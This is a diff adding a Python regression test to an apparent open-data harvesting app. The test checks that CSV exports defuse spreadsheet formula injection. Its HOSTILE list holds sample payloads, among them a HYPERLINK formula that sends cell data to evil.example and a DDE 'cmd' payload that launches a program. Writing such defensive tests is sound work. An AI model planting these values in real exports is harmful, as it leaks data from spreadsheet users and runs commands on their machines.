@@ -137,3 +137,35 @@ def test_pages_answer(client: TestClient) -> None:
     assert page.status_code == 200 and "Organismes — région Auvergne-Rhône-Alpes" in page.text and "Lyon" in page.text
     stats = client.get("/stats")
     assert stats.status_code == 200 and "class='chart line'" in stats.text
+
+
+HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"clic")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+           "\t=1+1", "\r=1+1"]
+
+
+def _cells_start_with_a_formula(text: str) -> list[str]:
+    rows = csv.reader(io.StringIO(text, newline=""))
+    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_csv_exports_never_start_a_cell_with_a_formula(tmp_path: Path) -> None:
+    """Finding 5: harvested titles and publishers beginning with =, +, -, @ were written as-is into the CSV exports
+    (a spreadsheet runs them). Each such cell now starts with a quote, which spreadsheets show and never run."""
+    from index.obligations import BodyStatus, to_csv
+
+    store = Store(tmp_path / "moisson.db")
+    records = [Dataset(id=f"evil.{n}", source_id="evil", native_id=str(n), title=text, publisher=Agent(name=text),
+                       metrics={"downloads": n}) for n, text in enumerate(HOSTILE)]
+    _harvest(store, "evil", "2026-01-10T00:00:00+00:00", records)
+    _harvest(store, "evil", "2026-02-10T00:00:00+00:00",
+             [r.model_copy(update={"metrics": {"downloads": 10 + n}}) for n, r in enumerate(records)])
+    store.close()
+    with TestClient(create_app(tmp_path / "moisson.db")) as client:
+        top = client.get("/api/stats/top", params={"format": "csv", "limit": 100}).text
+        by_publisher = client.get("/api/stats/downloads", params={"by": "publisher", "format": "csv"}).text
+    assert _cells_start_with_a_formula(top) == [] and _cells_start_with_a_formula(by_publisher) == []
+    titles = {row["title"] for row in csv.DictReader(io.StringIO(top, newline=""))}
+    assert titles == {"'" + text for text in HOSTILE}  # kept whole, only defused
+    body = BodyStatus(id="commune:1", type="commune", nature="", name="=1+1", siren="1", population=1,
+                      departement="69", region="84", zone="", publishers=HOSTILE, sources=["@evil"])
+    assert _cells_start_with_a_formula(to_csv([body])) == []
